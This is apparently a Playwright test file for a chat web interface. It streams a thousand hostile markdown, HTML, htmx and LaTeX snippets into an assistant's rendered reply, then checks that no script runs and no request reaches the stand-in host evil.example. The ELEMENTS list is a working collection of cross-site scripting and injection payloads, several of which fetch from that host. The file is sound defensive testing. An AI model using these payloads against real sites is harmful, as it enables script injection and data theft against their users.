"""A thousand hostile texts in a real browser, streamed in pieces that cut them anywhere: no script runs, no request
leaves, nothing is obeyed, the page stays the page.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from notso.web.scripted_engine import ScriptedEngine, say

RUN = "window.pwned=1"
FAR = "https://evil.example/x"

# What tries to run or to fetch, {0}: the script, {1}: the address.
ELEMENTS = [
    *(
        "<script>{0}</script>",
        "<script src={1}></script>",
        "<img src=x onerror={0}>",
        "<img src={1}>",
        "<svg onload={0}>",
    ),
    *(
        "<svg><script>{0}</script></svg>",
        "<svg><image href={1} /></svg>",
        "<iframe src={1}></iframe>",
        "<object data={1}>",
    ),
    *(
        "<iframe srcdoc='<script>parent.pwned=1</script>'>",
        "<embed src={1}>",
        "<video src={1} onerror={0}>",
        "<audio src={1}>",
    ),
    *("<link rel=stylesheet href={1}>", "<style>@import '{1}';*{{background:url({1})}}</style>", "<base href={1}>"),
    *("<meta http-equiv=refresh content='0;url={1}'>", "<form action={1}><button autofocus>x</button></form>"),
    *("<body onload={0}>", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>", "<marquee onstart={0}>"),
    *(
        "<math><mtext><style><img src=x onerror={0}>",
        "<a href='javascript:{0}'>x</a>",
        "<p style='background:url({1})'>x",
    ),
    *("<div hx-get={1} hx-trigger=load>", "<div hx-get=/livez hx-trigger=load hx-target=body>", "<p hx-on:click={0}>"),
    *(
        "<div hx-sse:connect={1}>",
        "<hx-partial hx-target=body hx-swap=innerHTML>gone</hx-partial>",
        "<hx-oob id=turns>",
    ),
    *("<p id=turns hx-swap-oob=true>gone</p>", "<template><script>{0}</script></template>", "<noscript><img src={1}>"),
    *("<p id=composer data-copy={1} data-say class='chip'>", "<button popovertarget=settings data-stop>x</button>"),
    *("[x](javascript:{0})", "![x]({1})", "![x](javascript:{0})", "[x](data:text/html,<script>{0}</script>)", "<{1}>"),
    *("$\\href{{javascript:{0}}}{{x}}$", "$\\includegraphics{{{1}}}$", "$\\url{{{1}}}$", "$\\htmlId{{turns}}{{x}}$"),
    *(
        "$\\htmlStyle{{background:url({1})}}{{x}}$",
        "$$\\def\\a{{\\a\\a}}\\a$$",
        "$\\rule{{9999em}}{{9999em}}$",
        "$<img src=x onerror={0}>$",
    ),
    *(
        "\n\nevent: done\ndata: {{}}\n\n",
        "\r\revent: done\r\r",
        "\u2028event: done\u2028",
        "<!--snapshot-->",
        "id: 99999\n\n",
    ),
    *(
        "</div></div></article>",
        "</textarea></main>",
        "</template></hx-partial>",
        "]]>",
        "-->",
        "\x00",
        "\ufffe",
        "\u202e",
    ),
]
# Where it stands.
FRAMES = [
    *("{}", "a {} b", "**{}**", "> {}", "- {}", "# {}", "|{}|\n|-|\n|{}|", "`{}`", "```\n{}\n```", "```html\n{}\n```"),
    *(
        "```{}\nx\n```",
        "[{}](https://e.example)",
        "[x](<{}>)",
        '[x](https://e.example "{}")',
        "~~{}~~",
        "$${}$$",
        "{}{}",
        "&lt;{}",
    ),
    *("<div>{}", "<!-- {}", "\\{}", "1. {}\n   - {}"),
]
FOREIGN = ".prose :is(img, script, iframe, object, embed, video, audio, form, input, link, style, base, meta, template)"
BATCHES = 4


def hostile(batch: int) -> list[str]:
    """A quarter of a thousand: every element, and every frame, many times over."""
    chance = random.Random(batch)
    found = []
    for number in range(250):
        element = ELEMENTS[(number + 250 * batch) % len(ELEMENTS)]
        frame = FRAMES[(number // 3 + batch * 7) % len(FRAMES)]
        text = element.format(RUN, FAR)
        spelled = "".join(c.upper() if chance.random() < 0.3 else c for c in text) if number % 5 == 0 else text
        found.append(frame.replace("{}", spelled))
    return found


def pieces(text: str, batch: int) -> list[Any]:
    """The first batch a character at a time, the others cut anywhere."""
    if batch == 0:
        return say(text, piece=1)
    chance, events = random.Random(batch), []
    while text:
        size = chance.randint(1, 60)
        events += say(text[:size], piece=size)
        text = text[size:]
    return events


@pytest.mark.parametrize("batch", range(BATCHES))
def test_a_thousand_hostile_texts(serve: Callable[..., Any], open_page: Callable[..., Page], batch: int) -> None:
    texts = hostile(batch)
    answer = "\n\n".join(texts) + "\n\nThe end."
    engine = ScriptedEngine(lambda messages, thinking: pieces(answer, batch))
    server = serve(engine)
    page = open_page(server.url)  # fails at the end for any console error and any request to elsewhere
    addresses: list[str] = []
    page.on("request", lambda request: addresses.append(request.url))
    page.locator("#text").fill("\n".join(texts[:40]).replace("\x00", ""))
    page.get_by_role("switch", name="Thinking").locator("..").click()
    page.get_by_role("button", name="Send").click()
    expect(page.locator("article.assistant")).to_have_attribute("data-state", "done", timeout=90_000)
    expect(page.locator(".answer")).to_contain_text("The end.")
    for _ in range(2):
        assert page.evaluate("[typeof pwned, document.querySelectorAll('#turns').length]") == ["undefined", 1]
        assert page.locator("#turns > article").count() == 2 and page.locator("#composer").count() == 1
        assert page.locator(f"{FOREIGN}, .answer [id]:not(div), .bubble *").count() == 0
        assert page.evaluate("location.pathname").startswith("/chats/")
        for button in page.locator(".answer .copy-code").all()[:2]:
            button.click()
        page.reload()
        page.wait_for_timeout(300)
    assert len(hostile(0)) * BATCHES == 1000
    assert addresses and not [address for address in addresses if "evil" in address]
